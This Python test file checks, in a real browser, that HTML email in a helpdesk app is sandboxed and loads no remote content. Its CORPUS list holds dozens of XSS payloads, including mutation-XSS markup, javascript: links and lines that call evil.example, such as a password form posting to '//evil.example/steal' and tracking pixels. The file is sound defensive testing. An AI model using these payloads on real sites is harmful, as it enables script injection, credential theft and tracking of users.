"""HTML mail in a real browser: nothing in it runs, nothing is fetched from elsewhere until somebody asks."""

from typing import Any

import pytest
from django.urls import reverse
from playwright.sync_api import Page, expect

from vakdesk.mailroom.actions import receive
from vakdesk.mailroom.models import Arrival
from vakdesk.mailroom.tests.conftest import message
from vakdesk.people.models import Person
from vakdesk.tickets.tests.test_browser import browser, enter  # noqa: F401  fixtures

pytestmark = [pytest.mark.browser, pytest.mark.once, pytest.mark.django_db(transaction=True)]

#: Scripts, handlers, addresses that run, styles that fetch, markup that changes its meaning when it is parsed again.
CORPUS = [
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror\n=\nalert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+'></use></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><img src=x onerror=alert(1)></template>",
    "<a href='javascript:alert(1)' id=go>go</a>",
    "<a href='java&#09;script:alert(1)' id=go>go</a>",
    "<a href='&#x6A;avascript:alert(1)' id=go>go</a>",
    "<a href='vbscript:alert(1)' id=go>go</a>",
    "<a href='data:text/html,<script>alert(1)</script>' id=go>go</a>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<object data='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='></object>",
    "<embed src='//evil.example/x.swf'>",
    "<base href='//evil.example/'><img src='x.png'>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href='//evil.example/x.css'>",
    "<style>@import '//evil.example/x.css'; body{background:url(//evil.example/y)}</style><p>x",
    "<p style='background:url(//evil.example/z)'>x</p>",
    "<p style='background-image:url(//evil.example/z);width:expression(alert(1))'>x</p>",
    "<body onload=alert(1) background='//evil.example/b.png'>x",
    "<table background='//evil.example/t.png'><td background='//evil.example/t.png'>x",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video autoplay onloadstart=alert(1) src=x poster='//evil.example/p.png'></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<div onmouseover=alert(1) style='position:fixed;inset:0'>x</div>",
    "<form action='//evil.example/steal'><input name=password><button autofocus>Go</button></form>",
    "<img srcset='//evil.example/s.png 1x' src='//evil.example/pixel.gif' width=1 height=1>",
    "<picture><source srcset='//evil.example/s.png'><img src='https://evil.example/pixel.gif'></picture>",
    "<img src='cid:nobody@x'><img src='//evil.example/pixel.gif'>",
    "<!--[if mso]><script>alert(1)</script><![endif]--><p>x",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<p>x" + "<div>" * 3000,
]


def letter(markup: str, number: int) -> Arrival:
    headers = {"Content_Type": "text/html; charset=utf-8", "Message_ID": f"<{number}@x>", "In_Reply_To": "<0@x>" if number else ""}
    return receive(message(f"<p>Hello</p>{markup}", **headers), source="help@desk.example").arrival


def watched(page: Page) -> list[str]:
    """What must not happen: dialogs, requests to elsewhere, errors of scripts that should not be there at all."""
    seen: list[str] = []
    page.on("dialog", lambda dialog: (seen.append(f"dialog {dialog.message}"), dialog.dismiss()))
    page.on("request", lambda request: seen.append(request.url) if "evil.example" in request.url else None)
    page.on("popup", lambda popup: seen.append(f"popup {popup.url}"))
    return seen


def test_nothing_in_html_mail_runs_or_fetches(enter: Any, ada: Person, bo: Person, settings: Any) -> None:  # noqa: F811
    settings.MAIL_MOST_PER_ADDRESS = 0
    page = enter(ada)
    seen = watched(page)
    with page.expect_event("dialog"):
        page.set_content("<img src=x onerror=alert(1)>")
    assert seen, "whatever runs is noticed"
    seen.clear()
    shown = []
    for number, markup in enumerate(CORPUS):
        arrival = letter(markup, number)
        assert arrival.record and arrival.message
        if not arrival.message.html:
            continue
        shown.append(markup)
        url = reverse("tickets:message", args=[arrival.message.pk])
        answer = page.goto(url)
        assert answer
        policy = answer.headers["content-security-policy"]
        assert "default-src 'none'" in policy and "sandbox" in policy and "allow-scripts" not in policy
        for link in page.locator("#go").all():
            link.click(force=True)
        assert page.url.endswith(url), f"it went elsewhere: {markup}"
        assert seen == [], markup
    page.goto(f"/tickets/{arrival.record.reference}/")
    frames = page.locator("iframe[data-behaviour=frame]").all()
    assert len(frames) == len(shown) > 40
    for frame in frames:
        assert "allow-scripts" not in (frame.get_attribute("sandbox") or "")
        frame.scroll_into_view_if_needed()
    assert seen == []


def test_pictures_from_elsewhere_are_fetched_when_somebody_asks(enter: Any, ada: Person, bo: Person) -> None:  # noqa: F811
    arrival = letter("<img src='https://evil.example/pixel.gif' alt='logo'>", 1)
    assert arrival.record
    page = enter(ada)
    seen = watched(page)
    page.goto(f"/tickets/{arrival.record.reference}/")
    page.locator("iframe[data-behaviour=frame]").first.scroll_into_view_if_needed()
    expect(page.frame_locator("iframe").get_by_text("Hello")).to_be_visible()
    assert seen == []
    with page.expect_request("https://evil.example/pixel.gif"):
        page.get_by_role("link", name="Show pictures from elsewhere").click()
